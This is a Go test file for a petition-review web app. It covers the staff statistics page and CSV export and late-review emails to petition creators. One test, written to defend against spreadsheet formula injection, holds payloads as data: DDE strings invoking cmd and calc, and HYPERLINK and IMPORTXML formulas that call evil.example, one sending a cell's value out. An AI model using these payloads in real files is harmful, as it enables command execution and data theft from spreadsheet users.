package web

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"undersigned"
	"undersigned/internal/desk"
	"undersigned/internal/web/view"
)

// The page and the file tell the same, and of nobody.
func TestStatisticsAsPageAndFile(t *testing.T) {
	o := newOffice(t).staffed()
	p, joke := o.queued("Mend the bridge"), o.queued("Paint the moon")
	o.serve(nil)
	o.Clock.Move(24 * time.Hour)
	v := o.signedIn(moiraMail)
	mustGo(t, v.decides(p.ID, view.PathAdmin(p.ID), "do", "publish"), view.PathQueue+"?said=published")
	mustGo(t, v.decides(joke.ID, view.PathAdmin(joke.ID), "do", "reject", "reason", "joke", "details", "It is one."), view.PathQueue+"?said=rejected")
	mustHold(t, v.page(view.PathDesk), `href="/staff/statistics"`)
	page := v.page(view.PathStatistics)
	mustHold(t, page, "November 2026", "All months", "Why we rejected", `href="/staff/statistics.csv"`)
	mustNotHold(t, page, "Ana Torres", creatorMail, "Paint the moon")
	w := v.get(view.PathStatisticsCSV)
	if w.Code != http.StatusOK || w.Header().Get("Content-Type") != "text/csv; charset=utf-8" || w.Header().Get("Cache-Control") != "no-store" {
		t.Fatalf("the file answers %d with %v", w.Code, w.Header())
	}
	rows, err := csv.NewReader(w.Body).ReadAll()
	o.Check(err)
	found := map[string]string{}
	for _, row := range rows {
		found[strings.Join(row[:3], "/")] = row[3]
	}
	for line, want := range map[string]string{
		"working days to a decision/2026-11/median": "1", "decisions/2026-11/published": "1", "decisions/all/rejected": "1", "queue/now/parked": "0", "signatures in tens/all/confirmed": "0",
	} {
		if found[line] != want {
			t.Errorf("%s is %q, want %q", line, found[line], want)
		}
	}
}

// G54, for this file: whatever staff named a reason, no cell of it begins a formula.
func TestG54NoCellOfTheStatisticsIsAFormula(t *testing.T) {
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\u00a0=", "\t+", " @"}
	ends := []string{`1+1`, `cmd|' /C calc'!A0`, `HYPERLINK("https://evil.example";"x")`, `SUM(A1:A9)*cmd|x`, `IMPORTXML(CONCAT("https://evil.example/";A1);"//a")`}
	var found desk.Statistics
	for i := range 300 {
		found.Reasons = append(found.Reasons, desk.ReasonCount{Title: starts[i%len(starts)] + ends[i/len(starts)%len(ends)] + strconv.Itoa(i), Count: i})
	}
	body, err := statisticsFile(found)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	reasons := 0
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsAny(cell, "=") {
				reasons++
			}
			if first := strings.TrimSpace(cell); first != "" && strings.ContainsAny(string([]rune(first)[0]), "=+-@＝＋－＠") {
				t.Errorf("a cell begins %q", cell)
			}
		}
	}
	if reasons < 100 {
		t.Errorf("only %d payloads are in the file", reasons)
	}
}

// Whose petition has waited too long is mailed once: what the page showed, and through the
// steward, because the desk has no address. Who is decided about meanwhile hears of that.
func TestCreatorsHearThatReviewIsLate(t *testing.T) {
	o := newOffice(t).staffed()
	late, decided := o.queued("Mend the bridge"), o.queued("Paint the moon")
	o.serve(nil)
	v := o.signedIn(moiraMail)
	mustHold(t, v.page(view.PathLate), "Nobody is waiting that long")
	o.Clock.Move(12 * 24 * time.Hour)
	o.Check(o.Steward.Chores(t.Context()))
	v = o.signedIn(moiraMail)
	mustHold(t, v.page(view.PathDesk), `href="/staff/late"`)
	page := v.page(view.PathLate)
	mustHold(t, page, "2 petitions", "Mend the bridge", "Paint the moon", "Send 2 emails", "We are late with your petition", "It has waited since 22 November 2026")
	mustNotHold(t, page, creatorMail)
	if mails := o.mailed(creatorMail); len(mails) != 0 {
		t.Fatalf("before the button there are %q", mails)
	}
	form := formOf(t, page, view.PathLate)
	if !strings.Contains(page, `name="before"`) || len(form) == 0 {
		t.Fatal("the page has no form")
	}
	before := strings.Split(strings.Split(page, `name="before" value="`)[1], `"`)[0]
	mustGo(t, v.post(view.PathLate, "days", "7", "before", before), view.PathLate+"?said=late")
	mustGo(t, v.post(view.PathLate, "days", "7", "before", before), view.PathLate+"?said=latenone")
	mustGo(t, v.decides(decided.ID, view.PathAdmin(decided.ID), "do", "publish"), view.PathQueue+"?said=published")
	o.Work()
	mails := o.mailed(creatorMail)
	if len(mails) != 2 { // late, and open
		t.Fatalf("who started them was mailed %q", mails)
	}
	for _, mail := range o.mails(creatorMail) {
		if mail.Subject == "We are late with your petition" && (!strings.Contains(mail.Text, "Mend the bridge") || !strings.Contains(mail.Text, "22 November 2026") || !strings.Contains(mail.Text, "/l/")) {
			t.Errorf("the mail is\n%s", mail.Text)
		}
	}
	mustHold(t, v.page(view.PathAdmin(late.ID)), "Told that review is late", "Moira Kent")
	mustHold(t, v.page(view.PathLate), "1 person has heard of this delay")
	for path, fields := range map[string][]string{"a delay that is none": {"days", "3", "before", before}, "no delay": {"before", before}, "no instant": {"days", "7"}} {
		if w := v.post(view.PathLate, fields...); w.Code != http.StatusNotFound && w.Code != http.StatusBadRequest {
			t.Errorf("%s answers %d", path, w.Code)
		}
	}
	if got := o.read(late.ID); got.State != undersigned.Queued || got.Revision != late.Revision {
		t.Error("a mail changed the petition")
	}
}
